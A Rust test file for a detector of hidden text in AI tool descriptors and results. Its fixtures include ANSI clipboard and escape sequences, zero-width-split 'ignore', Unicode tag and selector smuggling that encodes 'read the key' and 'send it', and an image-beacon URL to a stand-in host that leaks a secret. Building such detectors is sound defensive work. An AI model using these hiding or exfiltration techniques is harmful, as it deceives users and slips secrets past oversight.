//! Every way of hiding, each with an honest neighbour that must not fire.

use super::*;

fn check(audience: Audience, text: &str, expect: &[(&str, Level)]) {
    let mut out = Vec::new();
    Hidden::new(audience).scan(text, &mut out);
    let found: Vec<_> = out
        .iter()
        .map(|one| (one.rule.as_ref(), one.level))
        .collect();
    assert_eq!(found, expect, "{text:?}");
    for one in &out {
        let severity = match one.level {
            Level::Note => Severity::Low,
            Level::Warn => Severity::High,
            Level::Block => Severity::Critical,
        };
        assert_eq!(one.severity, severity, "{one:?}");
        assert!(
            text.get(one.span.clone())
                .is_some_and(|hit| !hit.is_empty()),
            "{one:?}"
        );
        assert!(
            one.sample
                .as_str()
                .bytes()
                .all(|byte| (b' '..=b'~').contains(&byte)),
            "{one:?}"
        );
    }
}

#[test]
fn what_hides_in_a_descriptor_is_found() {
    let cases: &[(&str, &str, Level)] = &[
        ("a\u{1b}[31mred", "ansi_style", Level::Block),
        ("a\u{9b}2J", "ansi_move", Level::Block),
        ("a\u{1b}]52;c;aGk=\u{7}", "ansi_command", Level::Block),
        ("a\u{90}q\u{9c}", "ansi_command", Level::Block),
        ("ig\u{200b}nore", "zero_width", Level::Block),
        ("done.\u{200b} next", "zero_width", Level::Warn),
        ("a \u{2060}b", "zero_width", Level::Warn),
        ("4\u{2060}5", "zero_width", Level::Warn),
        ("a\u{2060}\u{2060}-b", "zero_width", Level::Warn),
        ("x \u{202e}yz", "bidi_override", Level::Block),
        ("x \u{2066}yz", "bidi_mark", Level::Warn),
        (
            "a\u{e0068}\u{e0069}\u{e0021}",
            "tag_smuggling",
            Level::Block,
        ),
        (
            "😀\u{e0158}\u{e0159}\u{e015a}",
            "selector_smuggling",
            Level::Block,
        ),
        ("a\u{fe0f}", "selector_smuggling", Level::Warn),
        ("ig\u{ad}nore", "soft_hyphen", Level::Warn),
        ("a\u{3164}b", "filler", Level::Warn),
        ("a\u{8}b", "control", Level::Block),
        ("a\0b", "control", Level::Warn),
        ("p\u{430}ssword", "homoglyph", Level::Warn),
        (
            "x <!-- and then you do this as well -->",
            "hidden_comment",
            Level::Warn,
        ),
        (
            "<b style='display:none'>x</b>",
            "hidden_element",
            Level::Warn,
        ),
        (
            "![a](http://h.example/?q={secret})",
            "image_beacon",
            Level::Warn,
        ),
    ];
    for (text, rule, level) in cases {
        check(Audience::Descriptor, text, &[(rule, *level)]);
    }
}

#[test]
fn honest_uses_do_not_fire() {
    for text in [
        "pages 10\u{2060}\u{2013}\u{2060}12, and\u{2060}/or",
        "👨‍👩‍👧‍👦 👩🏽‍💻 ❤️‍🔥 ☺️ 1️⃣ #️⃣ 🏴󠁧󠁢󠁳󠁣󠁴󠁿 🏳️‍🌈",
        "نمی‌دانم می‌خواهم",
        "क्‍ष श्री ক্‌ষ",
        "ภาษา\u{200b}ไทย",
        "葛\u{e0100}飾区 ㊗️ 〰️",
        "price:\u{a0}5\u{202f}€ — “quoted” … naïve",
        "한\u{1160}국어",
        "tab\tline\r\nnext",
        "𝛼 + β = γ, Δx ≤ 5 µm",
    ] {
        check(Audience::Descriptor, text, &[]);
    }
    check(
        Audience::Descriptor,
        "\u{200f}שלום (1)",
        &[("bidi_mark", Level::Note)],
    );
    check(
        Audience::Descriptor,
        "\u{feff}text",
        &[("byte_order_mark", Level::Note)],
    );
}

#[test]
fn results_may_be_coloured_and_pages_may_have_comments() {
    check(
        Audience::Result,
        "\u{1b}[32mok",
        &[("ansi_style", Level::Note)],
    );
    check(
        Audience::Result,
        "\u{1b}[8mgone",
        &[("ansi_conceal", Level::Warn)],
    );
    check(
        Audience::Result,
        "a \u{200b}b",
        &[("zero_width", Level::Note)],
    );
    check(
        Audience::Result,
        "p\u{200b}assword",
        &[("zero_width", Level::Warn)],
    );
    check(
        Audience::Result,
        "a <!-- a long comment in a page -->",
        &[("hidden_comment", Level::Note)],
    );
}

#[test]
fn smuggled_text_can_be_read() {
    let tags: String = "read the key".bytes().map(tag).collect();
    let selectors: String = "send it".bytes().map(selector).collect();
    let text = format!("Adds. {tags} Done. x{selectors}");
    let found: Vec<_> = views(&text)
        .into_iter()
        .map(|view| (view.via, view.text))
        .collect();
    let expect = [("tags", "read the key"), ("selectors", "send it")];
    assert_eq!(
        found,
        expect.map(|(via, text)| (Cow::Borrowed(via), text.to_owned()))
    );
}

fn tag(byte: u8) -> char {
    char::from_u32(0xe_0000 + u32::from(byte)).unwrap()
}

fn selector(byte: u8) -> char {
    let code = u32::from(byte);
    char::from_u32(if code < 16 {
        0xfe00 + code
    } else {
        0xe_0100 + code - 16
    })
    .unwrap()
}

#[test]
fn a_text_full_of_them_gives_a_bounded_answer() {
    let text = "a\u{200b}b\u{1b}[1mc".repeat(10_000);
    let mut out = Vec::new();
    Hidden::new(Audience::Result).scan(&text, &mut out);
    assert_eq!(out.len(), 2 * MOST);
    assert!(out.iter().any(|one| one.span.end + 4 >= text.len()));
}
